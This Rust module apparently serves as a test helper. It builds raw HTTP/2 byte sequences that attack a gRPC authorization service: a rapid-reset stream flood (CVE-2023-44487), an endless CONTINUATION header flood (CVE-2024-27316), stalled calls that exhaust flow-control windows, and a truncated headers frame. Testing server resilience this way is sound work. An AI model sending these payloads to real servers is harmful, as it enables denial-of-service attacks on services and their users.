//! The bytes of HTTP/2 that a hostile client sends: frames that no library would.

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
const CHECK_PATH: &str = "/envoy.service.auth.v3.Authorization/Check";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a call of Check.
fn call(stream: u32) -> Vec<u8> {
    let literal = |index: &[u8], value: &str| {
        [index, &[u8::try_from(value.len()).unwrap_or_default()], value.as_bytes()].concat()
    };
    let (path, authority) = (literal(&[0x04], CHECK_PATH), literal(&[0x01], "t"));
    // Its name has the index 31: 15 in the first byte, and 16.
    let content_type = literal(&[0x0f, 0x10], "application/grpc");
    // POST, http.
    frame(HEADERS, END_HEADERS, stream, &[b"\x83\x86", &*path, &authority, &content_type].concat())
}

/// The first client's streams, by their numbers.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|n| 2 * n + 1)
}

/// As many calls as a connection may have, whose messages lack their ends, as long as the windows let them be.
pub fn unfinished_calls() -> Vec<u8> {
    const CALLS: u32 = 8;
    const SENT: usize = 15 << 10;
    let mut message = vec![0, 0, 1, 0xff, 0];
    message.resize(SENT, b'x');
    streams(CALLS).flat_map(|stream| [call(stream), frame(DATA, 0, stream, &message)].concat()).collect()
}

/// Calls that are cancelled at once (CVE-2023-44487).
pub fn rapid_resets() -> Vec<u8> {
    const CALLS: u32 = 2_000;
    let reset = |stream| [call(stream), frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat();
    streams(CALLS).flat_map(reset).collect()
}

/// A call's headers that go on without an end (CVE-2024-27316).
pub fn endless_headers() -> Vec<u8> {
    const FRAMES: usize = 64;
    let mut field = b"\0\x05x-big\x7f\x81\x7d".to_vec();
    field.resize(field.len() + 16_000, b'x');
    let mut all = frame(HEADERS, 0, 1, b"\x83\x86");
    for _ in 0..FRAMES {
        all.extend(frame(CONTINUATION, 0, 1, &field));
    }
    all
}

/// The begin of a frame of headers.
pub fn begun_headers() -> Vec<u8> {
    frame(HEADERS, 0, 1, &vec![b'x'; 16_000])[..32].to_vec()
}
